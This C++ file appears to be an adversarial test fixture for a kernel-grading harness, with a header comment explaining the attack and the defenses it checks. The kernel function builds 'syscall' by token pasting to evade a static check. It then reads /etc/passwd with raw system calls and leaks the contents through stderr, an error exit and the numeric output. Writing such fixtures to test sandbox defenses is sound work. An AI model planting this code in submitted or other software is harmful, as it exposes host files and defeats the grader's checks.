/* kernelcrew
entry: tiny_sss
flags: [-O2]
*/
// ATTACK: reads a host file and smuggles it out, evading the static check (names built
// with ##, raw openat/read/write system calls). It reads /etc/passwd, writes it to the
// worker's stderr and exits with an error, hoping the harness quotes the worker's last
// stderr line in its verdict; it also packs the first bytes into the output.
// Defense: the harness never quotes what a CPU worker printed (the kernel controls
// that process), and outputs only reach the verdict as a numerical comparison. The
// sandbox hides the home directory (test_home_directory_is_hidden points this kernel
// at a file there); world-readable system files such as /etc/passwd stay readable.
#include <cstdint>

#define KC_JOIN(a, b) a##b
extern "C" long KC_JOIN(sys, call)(long number, ...);
#define SC KC_JOIN(sys, call)
#if defined(__x86_64__)
static const long NR_READ = 0, NR_WRITE = 1, NR_OPENAT = 257, NR_EXIT_GROUP = 231;
#elif defined(__aarch64__)
static const long NR_READ = 63, NR_WRITE = 64, NR_OPENAT = 56, NR_EXIT_GROUP = 94;
#endif

static char buf[65536];

extern "C" void tiny_sss(const float* x, float* out, float a, float b, int64_t rows,
                         int64_t cols) {
    long fd = SC(NR_OPENAT, -100, "/etc/passwd", 0, 0);
    long n = fd >= 0 ? SC(NR_READ, fd, buf, sizeof buf) : 0;
    for (int64_t i = 0; i < rows; ++i) out[i] = i < n ? (float)buf[i] : x[i] * a + b + cols;
    if (n > 0) {
        SC(NR_WRITE, 2, buf, n);
        // one line per record as the last stderr line, then die with an error
        for (long i = 0; i < n; ++i) buf[i] = buf[i] == '\n' ? ' ' : buf[i];
        SC(NR_WRITE, 2, "\n", 1);
        SC(NR_WRITE, 2, buf, n);
        SC(NR_WRITE, 2, "\n", 1);
        SC(NR_EXIT_GROUP, 3);
    }
}
